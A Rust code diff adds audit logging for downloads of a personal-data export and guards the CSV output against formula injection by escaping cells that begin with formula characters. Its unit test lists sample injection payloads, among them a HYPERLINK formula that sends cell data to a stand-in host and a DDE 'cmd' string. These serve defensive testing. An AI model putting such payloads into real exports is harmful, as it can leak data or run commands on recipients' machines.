@@ -29,6 +29,13 @@ enum FileType {
 }
 
 impl FileType {
+    fn extension(self) -> &'static str {
+        match self {
+            FileType::Csv => "csv",
+            FileType::Xlsx => "xlsx",
+        }
+    }
+
     fn from_name(name: &str) -> Option<(&str, FileType)> {
         if let Some(stem) = name.strip_suffix(".csv") {
             Some((stem, FileType::Csv))
@@ -96,10 +103,50 @@ pub(super) async fn full_data_download(
     else {
         return refusal(AppError::NotFound("There is no such download.".into()));
     };
-    match full_data(&state.db, &cycle_id, anonymised).await {
-        Ok(export) => file_response(&export, file_type),
-        Err(error) => refusal(error),
+    let export = match full_data(&state.db, &cycle_id, anonymised).await {
+        Ok(export) => export,
+        Err(error) => return refusal(error),
+    };
+    // The data file is personal data: nobody has it without a record of who took which copy.
+    let recorded = record_data_file_download(
+        &state.db,
+        &actor.account_id,
+        &cycle_id,
+        &format!(
+            "version {}, {}, {}",
+            export.version,
+            if anonymised { "anonymised" } else { "named" },
+            file_type.extension()
+        ),
+    )
+    .await;
+    if let Err(error) = recorded {
+        tracing::error!(%error, "recording a download of the full data file");
+        return refusal(AppError::Internal);
     }
+    file_response(&export, file_type)
+}
+
+async fn record_data_file_download(
+    db: &app::store::Db,
+    account_id: &str,
+    cycle_id: &str,
+    what: &str,
+) -> Result<(), sqlx::Error> {
+    let mut tx = db.begin_write().await?;
+    app::store::audit::record(
+        &mut tx,
+        app::store::audit::AuditEntry {
+            actor: account_id,
+            action: "download the full data file",
+            entity_type: "cycle",
+            entity_id: cycle_id,
+            after: Some(what.to_string()),
+            ..Default::default()
+        },
+    )
+    .await?;
+    tx.commit().await
 }
 
 /// An error as plain text with its status: a download has no page to show it on.
@@ -115,14 +162,14 @@ fn refusal(error: AppError) -> Response {
 }
 
 fn file_response(export: &Export, file_type: FileType) -> Response {
-    let (body, content_type, extension) = match file_type {
-        FileType::Csv => (csv_bytes(export), "text/csv; charset=utf-8", "csv"),
+    let (body, content_type) = match file_type {
+        FileType::Csv => (csv_bytes(export), "text/csv; charset=utf-8"),
         FileType::Xlsx => (
             xlsx_bytes(export),
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
-            "xlsx",
         ),
     };
+    let extension = file_type.extension();
     let body = match body {
         Ok(body) => body,
         Err(error) => {
@@ -148,15 +195,27 @@ fn csv_bytes(export: &Export) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
     writer.write_record(&export.headers)?;
     for row in &export.rows {
         writer.write_record(row.iter().map(|cell| match cell {
-            Cell::Text(text) => text.clone(),
+            Cell::Text(text) => inert_in_a_spreadsheet(text),
             Cell::Number(number) => number.to_string(),
         }))?;
     }
     writer.write_record([""])?;
     for note in &export.notes {
-        writer.write_record([note])?;
+        writer.write_record([inert_in_a_spreadsheet(note)])?;
     }
     Ok(writer.into_inner()?)
+}
+
+/// Text as a spreadsheet shows it, never runs it: a cell that begins with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return is a formula to Excel (`=HYPERLINK(…)` in a reply comment would be a
+/// live link in a moderator's copy), so it gets a leading apostrophe, as OWASP's CSV injection
+/// guidance says. Numbers are written as numbers and need nothing.
+fn inert_in_a_spreadsheet(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
 }
 
 /// The table on its own sheet, numbers as numbers shown to 2 decimals, and a "Notes" sheet.
@@ -189,4 +248,52 @@ fn xlsx_bytes(export: &Export) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
     }
     notes.set_column_width(0, 120)?;
     Ok(workbook.save_to_buffer()?)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_text_cell_of_a_csv_download_is_a_formula() {
+        let attack = "=HYPERLINK(\"https://evil.example/?\"&B2,\"evidence\")";
+        let dangerous = [
+            attack.to_string(),
+            "+1+cmd|' /C calc'!A0".into(),
+            "-2+3".into(),
+            "@SUM(1,2)".into(),
+            "\t=1".into(),
+            "\r=1".into(),
+        ];
+        let export = Export {
+            file_stem: "test".into(),
+            sheet: "Data".into(),
+            headers: vec!["Comment".into(), "Level".into()],
+            rows: dangerous
+                .iter()
+                .map(|text| vec![Cell::Text(text.clone()), Cell::Number(-1.5)])
+                .chain([vec![
+                    Cell::Text("Board paper = approved".into()),
+                    Cell::Number(3.0),
+                ]])
+                .collect(),
+            notes: vec!["=1+1".into()],
+            version: 1,
+        };
+        let bytes = csv_bytes(&export).unwrap();
+        let mut reader = csv::ReaderBuilder::new()
+            .flexible(true)
+            .from_reader(&bytes[..]);
+        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        for (record, typed) in records.iter().zip(&dangerous) {
+            assert_eq!(
+                &record[0],
+                format!("'{typed}"),
+                "{typed:?} is shown as typed, not run"
+            );
+            assert_eq!(&record[1], "-1.5", "a number stays a number");
+        }
+        assert_eq!(&records[dangerous.len()][0], "Board paper = approved");
+        assert_eq!(&records[records.len() - 1][0], "'=1+1", "notes too");
+    }
 }
